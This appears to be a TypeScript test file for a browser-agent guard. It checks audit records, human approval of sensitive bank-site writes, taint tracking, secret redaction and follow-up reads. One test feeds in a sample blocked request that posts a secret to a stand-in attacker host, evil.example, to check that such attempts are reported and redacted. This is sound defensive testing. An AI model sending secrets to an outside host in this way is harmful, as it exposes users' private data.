// The call path with a fake action and a fake backstop (no browser): one start and one end record per call, the
// rounds of look → decide → ask → look again, what an answer changes in GuardState, passes and stopped requests,
// taint from what a read reports, and the follow-up read made inside the same call (docs/architecture.md "One
// call, one response", "The call path's parts").

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { PassSpec } from '../../../src/core/actionPasses.ts';
import type { ApprovalChoice, ApprovalRequest, Approver } from '../../../src/core/approvals.ts';
import type { AuditEntry, AuditStart } from '../../../src/core/audit.ts';
import {
  type ActionFacts,
  type Backstop,
  CallPath,
  type FollowUp,
  type GuardedAction,
} from '../../../src/core/callPath.ts';
import type { BrowserMode } from '../../../src/core/kinds.ts';
import { Redactor } from '../../../src/core/redact.ts';
import { RuleSet } from '../../../src/core/sensitiveRules.ts';
import { compilePattern } from '../../../src/core/urlPattern.ts';

const secret = 'Hush-Value-5521';
const bank = 'https://bank.example';

/** A backstop that records the passes opened and reports what the test says it stopped. */
function fakeBackstop() {
  const passes: PassSpec[] = [];
  const stopped: string[] = [];
  let seq = 0;
  const backstop: Backstop = {
    open: (spec) => {
      passes.push(spec);
      return { end: () => undefined };
    },
    mark: () => ++seq,
    stoppedSince: () => ({ lines: stopped.splice(0), unkept: 0 }),
    sentSince: () => ({ lines: [], unkept: 0 }),
    sensitiveReadsSince: () => [],
    attend: () => ({ settled: async () => undefined, detach: () => undefined }),
    watchTaint: () => () => undefined,
    secretTyped: () => undefined,
  };
  return { backstop, passes, stopped };
}

function rig(options: { mode?: BrowserMode } = {}) {
  const records: (AuditEntry | AuditStart)[] = [];
  const questions: ApprovalRequest[] = [];
  const answers: ApprovalChoice[] = [];
  const approver: Approver = {
    name: 'test human',
    ask: async (request) => {
      questions.push(request);
      return answers.shift() ?? { choice: 'reject' };
    },
  };
  const fake = fakeBackstop();
  const path = new CallPath({
    rules: new RuleSet([{ pattern: compilePattern('*://bank.example/*'), origin: 'test' }]),
    audit: { record: (entry) => records.push(entry) },
    policy: 'default',
    mode: () => options.mode ?? 'shared',
    redactor: () => new Redactor([secret]),
    backstop: fake.backstop,
    passMaxMs: 1_000,
  });
  const caller = (signal = new AbortController().signal) => ({ frontEnd: 'test', approver, signal });
  const ends = () => records.filter((record): record is AuditEntry => record.outcome !== 'started');
  return { path, records, ends, questions, answers, caller, ...fake };
}

interface FakeOptions {
  readonly facts?: Partial<ActionFacts>;
  /** Each look's binding, in turn (the page changing between rounds); the last one repeats. */
  readonly bindings?: string[];
  readonly reads?: string[];
  readonly followUp?: () => FollowUp | undefined;
  readonly fails?: Error;
}

function fakeAction(url: string, options: FakeOptions = {}) {
  const acted: string[] = [];
  let looks = 0;
  const bindings = options.bindings ?? [url];
  const action: GuardedAction<string> = {
    name: options.facts?.tool ?? 'click',
    args: { note: `typed ${secret}` },
    look: async () => ({
      facts: {
        tool: 'click',
        kind: 'write',
        tab: { id: 'p1', ownedByAgent: true },
        frames: [{ url }],
        carriesData: false,
        ...options.facts,
      },
      binding: bindings[Math.min(looks++, bindings.length - 1)] ?? url,
      url,
    }),
    act: async () => {
      if (options.fails) throw options.fails;
      acted.push(url);
      return `done ${url}`;
    },
    readsOf: () => options.reads ?? [],
    ...(options.followUp ? { followUp: options.followUp } : {}),
    skipped: () => 'skipped',
  };
  return { action, acted };
}

describe('the call path', () => {
  test('an allowed call: one start and one end record with the same id, arguments redacted', async () => {
    const { path, records, caller } = rig({ mode: 'isolated' });
    const { action, acted } = fakeAction('https://shop.example/');
    const outcome = await path.run(action, caller());
    assert.equal(outcome.value, 'done https://shop.example/');
    assert.deepEqual(acted, ['https://shop.example/']);
    assert.deepEqual(
      records.map((record) => record.outcome),
      ['started', 'ok'],
    );
    assert.equal(records[0]?.call, records[1]?.call);
    const end = records[1] as AuditEntry;
    assert.equal(end.decision, 'allow');
    assert.ok(!JSON.stringify(end).includes(secret), JSON.stringify(end));
  });

  test('an approved sensitive write opens a pass; what the backstop stopped comes back redacted', async () => {
    const { path, answers, questions, caller, passes, stopped, ends } = rig();
    answers.push({ choice: 'approve' });
    const { action } = fakeAction(`${bank}/pay`, {
      facts: { effects: [{ url: `${bank}/send`, submitsForm: true }] },
    });
    const act = action.act;
    action.act = async (look) => {
      stopped.push(`POST https://evil.example/?k=${secret}: tainted`);
      return act(look);
    };
    const outcome = await path.run(action, caller());
    assert.equal(questions.length, 1);
    assert.equal(questions[0]?.sensitive, true);
    assert.equal(passes.length, 1, 'one pass for the approved write');
    assert.deepEqual(passes[0]?.scope, 'p1');
    assert.equal(outcome.stopped.lines.length, 1);
    assert.ok(!outcome.stopped.lines[0]?.includes(secret), outcome.stopped.lines[0]);
    assert.equal(ends()[0]?.approver, 'test human');
  });

  test('a page that moved while the human decided is asked about again; three rounds end the call', async () => {
    const { path, answers, questions, caller } = rig();
    answers.push({ choice: 'approve' }, { choice: 'approve' }, { choice: 'approve' });
    const { action, acted } = fakeAction(`${bank}/pay`, { bindings: ['a', 'b', 'c', 'd'] });
    await assert.rejects(path.run(action, caller()), /kept changing/);
    assert.equal(questions.length, 3);
    assert.deepEqual(acted, []);
  });

  test('a rejection acts on nothing and is audited as rejected', async () => {
    const { path, caller, ends } = rig();
    const { action, acted } = fakeAction(`${bank}/pay`);
    await assert.rejects(path.run(action, caller()), /rejected/);
    assert.deepEqual(acted, []);
    assert.equal(ends()[0]?.outcome, 'rejected');
  });

  test('approve-all is granted through GuardState and answers the next call of the tool', async () => {
    const { path, answers, questions, caller } = rig();
    answers.push({ choice: 'approve-all', scope: 'tool' });
    await path.run(fakeAction('https://shop.example/a').action, caller());
    assert.deepEqual(path.state.approveAllGrants(), ['tool:click']);
    await path.run(fakeAction('https://shop.example/b').action, caller());
    assert.equal(questions.length, 1, 'the grant answered');
    path.state.browserChanged('shared');
    assert.deepEqual(path.state.approveAllGrants(), [], "cleared on the user's Chrome");
  });

  test('what a read reports taints by its sensitive pages only, once it acted', async () => {
    const { path, caller } = rig({ mode: 'isolated' });
    const { action } = fakeAction('https://shop.example/', {
      facts: { kind: 'read' },
      reads: ['https://shop.example/', `${bank}/statements`],
    });
    await path.run(action, caller());
    assert.deepEqual(path.state.taintedOrigins(), [bank]);
    const failing = fakeAction(`${bank}/x`, {
      facts: { kind: 'read' },
      reads: [`${bank}/x`],
      fails: new Error('no'),
    });
    const other = rig({ mode: 'isolated' });
    await assert.rejects(other.path.run(failing.action, other.caller()));
    assert.deepEqual(other.path.state.taintedOrigins(), [], 'a read that failed showed nothing');
  });

  test('a follow-up read is made inside the same call: judged, tainting, named in its record', async () => {
    const { path, records, caller, ends } = rig({ mode: 'isolated' });
    const told: unknown[] = [];
    const read = fakeAction(`${bank}/statements`, {
      facts: { tool: 'take_snapshot', kind: 'read' },
      reads: [`${bank}/statements`],
    });
    const { action } = fakeAction('https://shop.example/', {
      followUp: () => ({ action: read.action, done: (outcome) => told.push(outcome) }),
    });
    await path.run(action, caller());
    assert.deepEqual(read.acted, [`${bank}/statements`]);
    assert.equal(records.length, 2, 'one start, one end');
    assert.deepEqual(ends()[0]?.followUps, ['take_snapshot of p1: ok']);
    assert.deepEqual(told, [
      { value: `done ${bank}/statements`, stopped: { lines: [], unkept: 0, atLeast: false } },
    ]);
    assert.deepEqual(path.state.taintedOrigins(), [bank]);
  });

  test('a follow-up that fails or that the guard would not allow alone never fails the call', async () => {
    const { path, caller, ends } = rig();
    const told: unknown[] = [];
    const broken = fakeAction('https://shop.example/', {
      facts: { tool: 'take_snapshot', kind: 'read' },
      fails: new Error(`tab gone ${secret}`),
    });
    // A write as a follow-up: in the user's Chrome the guard asks, and a follow-up asks nobody.
    const asking = fakeAction('https://shop.example/', { facts: { tool: 'type_more' } });
    const follows = [broken.action, asking.action];
    const first = fakeAction('https://shop.example/', {
      facts: { kind: 'read' },
      followUp: () => {
        const next = follows.shift();
        return next ? { action: next, done: (outcome) => told.push(outcome) } : undefined;
      },
    });
    await path.run(first.action, caller());
    await path.run(first.action, caller());
    assert.deepEqual(asking.acted, []);
    assert.equal(told.length, 2);
    assert.ok(
      told.every((outcome) => typeof outcome === 'object' && outcome !== null && 'failure' in outcome),
    );
    const [one, two] = ends();
    assert.match(one?.followUps?.[0] ?? '', /^take_snapshot of p1: internal: tab gone «redacted»$/);
    assert.match(two?.followUps?.[0] ?? '', /^type_more of p1: rejected: type_more was not made/);
    assert.ok(ends().every((end) => end.outcome === 'ok'));
  });

  test('a cancelled call starts no follow-up read', async () => {
    const { path, caller, ends } = rig({ mode: 'isolated' });
    const cancel = new AbortController();
    const read = fakeAction('https://shop.example/', { facts: { kind: 'read' } });
    const { action } = fakeAction('https://shop.example/', {
      facts: { kind: 'read' },
      followUp: () => ({ action: read.action, done: () => undefined }),
    });
    const act = action.act;
    action.act = async (look) => {
      cancel.abort();
      return act(look);
    };
    await path.run(action, caller(cancel.signal));
    assert.deepEqual(read.acted, []);
    assert.equal(ends()[0]?.followUps, undefined);
  });
});
